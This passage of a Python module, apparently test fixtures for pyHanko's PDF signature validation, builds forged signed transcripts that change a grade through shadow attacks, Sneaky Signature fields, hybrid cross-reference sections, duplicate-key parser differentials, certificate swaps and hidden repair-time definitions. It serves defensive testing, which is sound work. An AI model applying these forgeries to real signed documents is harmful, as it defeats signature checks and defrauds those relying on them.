    assert old in text, f"{old!r} is not on the signed page"
    forged = text.replace(old, new)
    der = bytes(embedded.pkcs7_content).rstrip(b"\x00")
    dictionary_rest = tail[: tail.find(b"endobj") + len(b"endobj")]

    def layout(moved_to: int) -> bytes:
        body = bytearray(head + b"<" + der.hex().encode() + b">")
        body += re.sub(
            rb"/ByteRange\s*\[[^\]]*\]",
            b"/ByteRange [0 %d %d %d]" % (first_length, moved_to, second_length),
            dictionary_rest,
            count=1,
        )
        body += b"\n"
        forged_at = len(body)
        body += _stream_object(number, forged)
        assert len(body) < xref_at, "no room before the signed startxref's offset"
        body += b" " * (xref_at - len(body))
        entries = {n: o for n, o in refs.items() if isinstance(o, int)}
        entries = {
            n: (o if o < second_start else o - second_start + moved_to) for n, o in entries.items()
        }
        entries[number] = forged_at
        body += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
            b"%d 1\n%010d 00000 n \n" % (n, entries[n]) for n in sorted(entries)
        )
        body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            int(reader.trailer["/Size"]),
            reader.trailer.raw_get("/Root").idnum,
            int(reader.trailer.raw_get("/Prev")),
            xref_at,
        )
        return bytes(body)

    moved_to = len(layout(0))
    out = layout(moved_to) + tail
    assert len(layout(moved_to)) == moved_to
    _, shown = content_stream_ref(out)
    assert new in shown, "a reader does not see the forgery"
    return out


#: The object number a prepared page refers to without defining it.
DANGLING = 500


def dangling_reference_pdf() -> bytes:
    """A one-page transcript showing "Diem Toan: 7" whose page also draws object 500, which the
    document does not define: a viewer draws nothing for it (an undefined object is null)."""
    return _one_page(
        lambda writer: [
            writer.add_object(
                generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (Diem Toan: 7) Tj ET")
            ),
            generic.IndirectObject(DANGLING, 0, writer),
        ]
    )


def define_dangling_object(pdf: bytes, *, with_dss: bool) -> bytes:
    """Shadow attack through a dangling reference: a later update *adds* object 500 — a content
    stream that paints over the 7 and writes 10 — which the signed page already drew. Nothing the
    signer saw is rewritten; pyHanko's difference analysis takes it for an unused new object."""
    data = b"1 1 1 rg 60 690 300 40 re f 0 g BT /F1 24 Tf 72 700 Td (Diem Toan: 10) Tj ET"
    stream = b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
    out = _xref_stream_update(pdf, {DANGLING: stream}, {}, with_dss=with_dss)
    shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
    assert isinstance(shown[1], generic.StreamObject), "the page does not draw the new object"
    return out


# -- Sneaky Signature Attack (SSA; Rohlmann et al., "Breaking the Specification: PDF
# Certification", IEEE S&P 2021) -------------------------------------------------------------------


def _painting_appearance(writer: IncrementalPdfFileWriter, text: bytes) -> generic.IndirectObject:
    """An appearance that paints a white box over what lies under its widget and writes ``text``."""
    font = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Type"): _n("/Font"),
                _n("/Subtype"): _n("/Type1"),
                _n("/BaseFont"): _n("/Helvetica"),
            }
        )
    )
    return writer.add_object(
        generic.StreamObject(
            {
                _n("/Type"): _n("/XObject"),
                _n("/Subtype"): _n("/Form"),
                _n("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(v) for v in (0, 0, 350, 200)]
                ),
                _n("/Resources"): generic.DictionaryObject(
                    {_n("/Font"): generic.DictionaryObject({_n("/F1"): font})}
                ),
            },
            stream_data=b"1 1 1 rg 0 0 350 200 re f 0 g BT /F1 24 Tf 10 100 Td ("
            + text
            + b") Tj ET",
        )
    )


def _field_ref(writer: IncrementalPdfFileWriter, name: str) -> generic.IndirectObject:
    fields = writer.root["/AcroForm"]["/Fields"]
    for index in range(len(fields)):
        ref = fields.raw_get(index)
        if ref.get_object().get("/T") == name:
            return ref  # type: ignore[no-any-return]
    raise AssertionError(f"no field {name!r}")


def sneaky_signature_field(
    pdf: bytes, text: bytes = b"Diem Toan: 10", *, separate_widget: bool = False
) -> bytes:
    """SSA: a later update adds an *empty* signature field — which a signature permits, as a place
    for the next signer — whose widget's appearance paints a white box over the page and writes
    ``text``. Nothing the signer saw is rewritten; the page shows something else.
    ``separate_widget``: the widget is the field's kid rather than merged with it."""
    from pyhanko.sign import fields

    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    fields.append_signature_field(
        writer,
        fields.SigFieldSpec(
            "ChoKy",
            on_page=0,
            box=(50, 600, 400, 800),
            combine_annotation=not separate_widget,
        ),
    )
    ref = _field_ref(writer, "ChoKy")
    widget = ref.get_object()["/Kids"][0] if separate_widget else ref.get_object()
    widget[_n("/AP")] = generic.DictionaryObject({_n("/N"): _painting_appearance(writer, text)})
    widget_ref = ref.get_object()["/Kids"].raw_get(0) if separate_widget else ref
    writer.mark_update(widget_ref)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def redraw_empty_field(pdf: bytes, name: str, text: bytes = b"Diem Toan: 10") -> bytes:
    """SSA on a place that was blank: an empty signature field given, in a later update, an
    appearance that paints over the page."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    ref = _field_ref(writer, name)
    ref.get_object()[_n("/AP")] = generic.DictionaryObject(
        {_n("/N"): _painting_appearance(writer, text)}
    )
    writer.mark_update(ref)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- Hybrid cross-reference (/XRefStm) -----------------------------------------------------------


_PREPARED_XREF = re.compile(rb"(\d+) 0 obj\n<< /Type /XRef /Size \d+ /W \[1 4 2\] /Index \[\d+ 1\]")


def hybrid_prepared_pdf() -> bytes:
    """The overlay transcript with, in an update made *before* signing, an unlisted second
    definition of the overlay (an empty stream) and a cross-reference stream, listed as an ordinary
    object, that maps the overlay to it: signed, it changes nothing (no trailer names the stream)."""
    pdf = overlay_pdf()
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    _, (_, overlay) = _page_and_contents(pdf)
    body = bytearray(b"\n")
    empty_at = len(pdf) + len(body)
    body += b"%d 0 obj\n<< /Length 0 >>\nstream\n\nendstream\nendobj\n" % overlay.idnum
    xref_stream_at = len(pdf) + len(body)
    data = bytes([1]) + empty_at.to_bytes(4, "big") + (0).to_bytes(2, "big")
    body += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%d 1] /Length %d >>\nstream\n"
        % (size, size + 1, overlay.idnum, len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    table_at = len(pdf) + len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (size, xref_stream_at)
    body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size + 1,
        reader.trailer.raw_get("/Root").idnum,
        last_startxref(pdf),
        table_at,
    )
    return pdf + bytes(body)


def hybrid_xref_stream_update(pdf: bytes, *, with_dss: bool) -> bytes:
    """A later update whose trailer names the prepared stream as its ``/XRefStm`` (a hybrid
    section): a reader merges the stream's entries into the update, the overlay resolves to the
    empty stream and the page shows "Diem Toan: 10". ``with_dss``: dressed as validation data."""
    match = _PREPARED_XREF.search(pdf)
    assert match, "not the prepared document"
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    root = reader.trailer.raw_get("/Root")
    body = bytearray(b"\n")
    offsets: dict[int, int] = {}
    if with_dss:
        catalog = generic.DictionaryObject(reader.root)
        catalog[_n("/DSS")] = generic.IndirectObject(size, 0, reader)
        offsets[root.idnum] = len(pdf) + len(body)
        body += b"%d 0 obj\n" % root.idnum + _serialised(catalog) + b"\nendobj\n"
        offsets[size] = len(pdf) + len(body)
        body += b"%d 0 obj\n<< /Certs [] >>\nendobj\n" % size
    table_at = len(pdf) + len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
        b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets)
    )
    body += (
        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (size + 1, root.idnum, last_startxref(pdf), match.start(), table_at)
    )
    out = pdf + bytes(body)
    shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
    assert shown[1].data == b"", "the overlay is still drawn"
    return out


# -- Certificate substitution -------------------------------------------------------------------------


def certificate_swapped(pdf: bytes, certificate: bytes, index: int = -1) -> bytes:
    """The signer's certificate replaced, in the CMS's unsigned certificate set and its signer
    identifier, by another certificate *for the same key* (a re-issued one naming another title):
    the signature value still verifies with the key, only the signed signing-certificate attribute
    says which certificate was meant."""
    from asn1crypto import x509 as asn1_x509

    _, _, der = _signature_contents(pdf, index)
    content_info = cms.ContentInfo.load(der)
    signed_data = content_info["content"]
    other = asn1_x509.Certificate.load(certificate)
    signer_info = signed_data["signer_infos"][0]
    old_sid = signer_info["sid"].chosen
    kept = [
        c
        for c in signed_data["certificates"]
        if not (
            c.chosen.issuer == old_sid["issuer"]
            and c.chosen.serial_number == old_sid["serial_number"].native
        )
    ]
    signed_data["certificates"] = cms.CertificateSet(
        [cms.CertificateChoices(name="certificate", value=other), *kept]
    )
    signer_info["sid"] = cms.SignerIdentifier(
        name="issuer_and_serial_number",
        value=cms.IssuerAndSerialNumber(
            {"issuer": other.issuer, "serial_number": other.serial_number}
        ),
    )
    return _replace_contents(pdf, index, content_info.dump(force=True))


# -- Shadow attack, *replace*: what a viewer redraws form fields from ------------------------------


def form_redrawn(pdf: bytes, variant: str) -> bytes:
    """A later update that leaves every field's value and appearance streams alone but makes viewers
    draw the fields again from their inputs (``/NeedAppearances true``) — ``need-appearances``:
    only that; ``font-swapped``: and the form's ``/Helv`` is now ZapfDingbats, so the grade shows
    as symbols; ``default-appearance``: and the grade's ``/DA`` writes in white;
    ``parent-default-appearance``: the same in the parent field's ``/DA`` (a :func:`grouped_form`),
    which the grade inherits."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    form = writer.root["/AcroForm"]
    form[_n("/NeedAppearances")] = generic.BooleanObject(True)
    if variant == "font-swapped":
        form[_n("/DR")] = generic.DictionaryObject(
            {
                _n("/Font"): generic.DictionaryObject(
                    {
                        _n("/Helv"): writer.add_object(
                            generic.DictionaryObject(
                                {
                                    _n("/Type"): _n("/Font"),
                                    _n("/Subtype"): _n("/Type1"),
                                    _n("/BaseFont"): _n("/ZapfDingbats"),
                                }
                            )
                        )
                    }
                )
            }
        )
    elif variant == "default-appearance":
        ref = _field_ref(writer, "diem_toan")
        ref.get_object()[_n("/DA")] = generic.TextStringObject("/Helv 12 Tf 1 1 1 rg")
        writer.mark_update(ref)
    elif variant == "parent-default-appearance":  # a grouped_form: the /DA the kids inherit
        ref = writer.root["/AcroForm"]["/Fields"].raw_get(0)
        ref.get_object()[_n("/DA")] = generic.TextStringObject("/Helv 12 Tf 1 1 1 rg")
        writer.mark_update(ref)
    elif variant != "need-appearances":
        raise ValueError(variant)
    form_ref = writer.root.raw_get("/AcroForm")
    if isinstance(form_ref, generic.IndirectObject):
        writer.mark_update(form_ref)
    else:
        writer.update_root()
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- Parser differentials: what pyHanko reads and what a viewer shows --------------------------------


def duplicate_key_page(pdf: bytes, new: bytes = b"Diem Toan: 3") -> bytes:
    """A later update rewrites the page as it was signed plus a second ``/Contents`` pointing at a
    new stream. pyHanko's lenient reader keeps a repeated key's first value (the page looks
    unchanged to it); MuPDF and poppler keep the last and draw the new stream."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    page = _serialised(page_ref.get_object())
    assert page.rstrip().endswith(b">>")
    number = int(reader.trailer["/Size"])
    data = b"BT /F1 24 Tf 72 700 Td (" + new + b") Tj ET"
    objects = {
        page_ref.idnum: page.rstrip()[:-2] + b" /Contents %d 0 R >>" % number,
        number: b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    }
    return _xref_stream_update(pdf, objects, {}, with_dss=False)


def duplicate_key_page_in_object_stream(pdf: bytes, new: bytes = b"Diem Toan: 3") -> bytes:
    """:func:`duplicate_key_page` with the page redefined inside an object stream of the update:
    to pyHanko's difference analysis the page is unchanged (it reads the first ``/Contents``; the
    update passed as ``LTA_UPDATES``), poppler draws the new stream."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    page = _serialised(page_ref.get_object()).rstrip()
    assert page.endswith(b">>")
    content = int(reader.trailer["/Size"])
    data = b"BT /F1 24 Tf 72 700 Td (" + new + b") Tj ET"
    packed = {page_ref.idnum: page[:-2] + b" /Contents %d 0 R >>" % content}
    return _xref_stream_update(
        pdf,
        {
            content: b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
            content + 1: _object_stream(packed),
        },
        {page_ref.idnum: (2, content + 1, 0)},
        with_dss=False,
    )


def ambiguous_page_for_signing(
    pdf: bytes, new: bytes = b"Diem Toan: 10", *, object_stream: bool
) -> bytes:
    """A document brought to be signed whose page names ``/Contents`` twice: pyHanko reads the
    first (what the signing checks see), MuPDF and poppler the last (``new``) — the signer and a
    later reader see two documents. Unsigned; with ``object_stream`` the page is a new object
    inside an (uncompressed) object stream, the tree pointing at it, else :func:`duplicate_key_page`."""
    if not object_stream:
        return duplicate_key_page(pdf, new)
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    kids = writer.root["/Pages"]["/Kids"]
    old_ref = kids.raw_get(0)
    page = generic.DictionaryObject(
        {key: old_ref.get_object().raw_get(key) for key in old_ref.get_object()}
    )
    data = b"BT /F1 24 Tf 72 700 Td (" + new + b") Tj ET"
    # A name as long as /Contents, made a second /Contents in the bytes once written.
    page[_n("/Contentz")] = writer.add_object(generic.StreamObject(stream_data=data))
    stream = writer.prepare_object_stream(compress=False)
    kids[0] = writer.add_object(page, obj_stream=stream)
    writer.update_container(kids)
    out = BytesIO()
    writer.write(out)
    return out.getvalue().replace(b"/Contentz", b"/Contents")


def ambiguous_resources_pdf(*, object_stream: bool, repeated: bool = True) -> bytes:
    """A one-page transcript whose page draws form XObject ``/G1`` from resources of their own (an
    object that signing software leaves as it is, unlike the page it adds a widget to), which name
    ``/G1`` twice: "Diem Toan: 7" first (what pyHanko reads), "Diem Toan: 10" last (what poppler
    and MuPDF draw). With ``object_stream``, the resources sit in an uncompressed object stream;
    without ``repeated``, the same document with the second form named ``/G2`` (drawn by nobody)."""
    writer = PdfFileWriter(stream_xrefs=True)
    font = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Type"): _n("/Font"),
                _n("/Subtype"): _n("/Type1"),
                _n("/BaseFont"): _n("/Helvetica"),
            }
        )
    )

    def form(text: bytes) -> generic.IndirectObject:
        page_box = generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)])
        fonts = generic.DictionaryObject({_n("/F1"): font})
        return writer.add_object(
            generic.StreamObject(
                {
                    _n("/Type"): _n("/XObject"),
                    _n("/Subtype"): _n("/Form"),
                    _n("/BBox"): page_box,
                    _n("/Resources"): generic.DictionaryObject({_n("/Font"): fonts}),
                },
                stream_data=b"BT /F1 24 Tf 72 700 Td (" + text + b") Tj ET",
            )
        )

    seen, shown = form(b"Diem Toan: 7"), form(b"Diem Toan: 10")
    # A name as long as /G1, made a second /G1 in the bytes once written.
    forms = generic.DictionaryObject({_n("/G1"): seen, _n("/G2"): shown})
    stream = writer.prepare_object_stream(compress=False) if object_stream else None
    resources = writer.add_object(
        generic.DictionaryObject({_n("/XObject"): forms}), obj_stream=stream
    )
    content = writer.add_object(generic.StreamObject(stream_data=b"q /G1 Do Q"))
    writer.insert_page(PageObject(content, (0, 0, 595, 842), resources=resources))
    out = BytesIO()
    writer.write(out)
    written = out.getvalue()
    assert written.count(b"/G2") == 1
    return written.replace(b"/G2", b"/G1") if repeated else written


def duplicate_key_catalog_as_validation_data(pdf: bytes, new: bytes = b"Diem Toan: 3") -> bytes:
    """An update dressed as validation data whose catalogue is the signed one plus ``/DSS`` and a
    second ``/Pages``: a whole new page tree, reachable from the DSS too. To pyHanko only a /DSS
    was added; a viewer shows the new pages."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    pages, page, content, dss = size, size + 1, size + 2, size + 3
    old_page = reader.root["/Pages"].raw_get("/Kids").raw_get(0).get_object()
    resources = _serialised(old_page.raw_get("/Resources"))
    catalog = _serialised(reader.root).rstrip()
    data = b"BT /F1 24 Tf 72 700 Td (" + new + b") Tj ET"
    objects = {
        reader.trailer.raw_get("/Root").idnum: catalog[:-2]
        + b" /DSS %d 0 R /Pages %d 0 R >>" % (dss, pages),
        dss: b"<< /Certs [] /VRI << /T %d 0 R >> >>" % pages,
        pages: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % page,
        page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources " % pages
        + resources
        + b" /Contents %d 0 R >>" % content,
        content: b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    }
    return _xref_stream_update(pdf, objects, {}, with_dss=False)


def repair_prepared_pdf() -> bytes:
    """A one-page transcript showing "Diem Toan: 7" whose file also holds, after the listed
    objects and listed nowhere, a second definition of the page content showing "Diem Toan: 10":
    every reader follows the cross-reference table and shows 7 — until it has to repair it."""
    genuine = b"BT /F1 24 Tf 72 700 Td (Diem Toan: 7) Tj ET"
    hidden = b"BT /F1 24 Tf 72 700 Td (Diem Toan: 10) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
        b" /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(genuine) + genuine + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += b"4 0 obj\n<< /Length %d >>\nstream\n" % len(hidden) + hidden + b"\nendstream\nendobj\n"
    table = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(out)


def definition_hidden_in_stream(pdf: bytes, new: bytes = b"Diem Toan: 10") -> bytes:
    """``pdf`` plus a well-formed update adding a stream (an attachment, say) whose data holds, at
    a line start, a second definition of the page's content showing ``new``: listed nowhere, so
    every reader that follows the cross-reference sections shows the page as it was, and a viewer
    that rebuilds them (after a small damage added later) shows ``new``."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page = reader.root["/Pages"].raw_get("/Kids").raw_get(0).get_object()
    content = page.raw_get("/Contents")
    assert isinstance(content, generic.IndirectObject)
    drawn = b"BT /F1 24 Tf 72 700 Td (" + new + b") Tj ET"
    hidden = (
        b"\n%d 0 obj\n<< /Length %d >>\nstream\n" % (content.idnum, len(drawn))
        + drawn
        + b"\nendstream\nendobj\n"
    )
    carrier = int(reader.trailer["/Size"])
    objects = {carrier: b"<< /Length %d >>\nstream\n" % len(hidden) + hidden + b"\nendstream"}
    return _xref_stream_update(pdf, objects, {}, with_dss=False)


def object_zero_in_use(pdf: bytes) -> bytes:
    """An update that changes nothing but lists object 0 — the head of the free list — as in use
    at an offset past the end: pyHanko ignores the entry, MuPDF "repairs" the file by scanning it
    and takes the last definition of each object it finds, the hidden one included."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    info = reader.trailer.raw_get("/Info") if "/Info" in reader.trailer else None
    return pdf + (
        b"\nxref\n0 1\n9999999999 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d%s >>\n"
        b"startxref\n%d\n%%%%EOF\n"
        % (
            int(reader.trailer["/Size"]),
            reader.trailer.raw_get("/Root").idnum,
            last_startxref(pdf),
            b" /Info %d 0 R" % info.idnum if info is not None else b"",
            len(pdf) + 1,
        )
    )


# -- Document information retitled ---------------------------------------------------------------


def retitled(pdf: bytes, title: str, *, xmp: bool = False) -> bytes:
    """The document's title set in an update, as pyHanko's writer sets it: the information
    dictionary's ``/Title``, or the XMP metadata's ``dc:title`` where the document has XMP
    (``xmp``: give it XMP, as a PDF 2.0 writer does)."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    if xmp:
        writer.ensure_output_version((2, 0))
    writer.document_meta.title = title
    writer.update_root()  # an update to write the metadata with
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- Hybrid updates (a table and its /XRefStm), as writers update hybrid-reference files ------------


def _object_stream(objects: dict[int, bytes]) -> bytes:
    header = b" ".join(b"%d %d" % (n, o) for n, o in _packed_offsets(objects)) + b" "
    packed = header + b"".join(value + b" " for value in objects.values())
    return (
        b"<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n"
        % (len(objects), len(header), len(packed))
        + packed
        + b"\nendstream"
    )


def _packed_offsets(objects: dict[int, bytes]) -> list[tuple[int, int]]:
    offsets, at = [], 0
    for number, value in objects.items():
        offsets.append((number, at))
        at += len(value) + 1
    return offsets


def hybrid_update(
    pdf: bytes,
    *,
    packed: dict[int, bytes] | None = None,
    with_dss: bool = True,
    conflicting: bool = False,
) -> bytes:
    """An update as a writer makes it to a hybrid-reference file: a cross-reference table (with
    the catalogue and an object stream) whose trailer's ``/XRefStm`` names a cross-reference
    stream of the same update listing what is inside the object stream. By default the object
    stream holds a ``/DSS`` (validation data, an honest update); ``packed`` puts other objects in
    it (the page, rewritten); ``conflicting``: the stream also lists the catalogue, elsewhere than
    the table does."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    root = reader.trailer.raw_get("/Root")
    inside = dict(packed or {})
    plain: dict[int, bytes] = {}
    if with_dss:
        catalog = generic.DictionaryObject(reader.root)
        catalog[_n("/DSS")] = generic.IndirectObject(size, 0, reader)
        plain[root.idnum] = _serialised(catalog)
        inside[size] = b"<< /Certs [] >>"
    stream_number, xref_number = size + 1, size + 2
    plain[stream_number] = _object_stream(inside)
    body = bytearray(b"\n")
    offsets: dict[int, int] = {}
    for number, value in plain.items():
        offsets[number] = len(pdf) + len(body)
        body += b"%d 0 obj\n" % number + value + b"\nendobj\n"
    rows = {n: (2, stream_number, i) for i, n in enumerate(inside)}
    if conflicting:
        rows[root.idnum] = (2, stream_number, 0)
    data = b"".join(
        bytes([rows[n][0]]) + rows[n][1].to_bytes(4, "big") + rows[n][2].to_bytes(2, "big")
        for n in sorted(rows)
    )
    index = b" ".join(b"%d 1" % n for n in sorted(rows))
    xref_stream_at = len(pdf) + len(body)
    body += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, index, len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    table_at = len(pdf) + len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(
        b"%d 1\n%010d 00000 n \n" % (n, offsets[n]) for n in sorted(offsets)
    )
    body += (
        b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (xref_number + 1, root.idnum, last_startxref(pdf), xref_stream_at, table_at)
    )
    return pdf + bytes(body)


def shadow_replace_in_hybrid_update(pdf: bytes) -> bytes:
    """Shadow attack, *hide-and-replace*, through a hybrid update: the page dictionary rewritten
    inside the object stream that only the ``/XRefStm`` lists (a reader that ignores hybrid
    sections, and the table, know nothing of it): its ``/Contents`` is the hidden stream alone."""
    page_ref, (hidden, _) = _page_and_contents(pdf)
    page = generic.DictionaryObject(page_ref.get_object())
    page[_n("/Contents")] = generic.ArrayObject([hidden])
    out = hybrid_update(pdf, packed={page_ref.idnum: _serialised(page)}, with_dss=True)
    shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
    assert len(shown) == 1, "the page still draws the overlay"
    return out
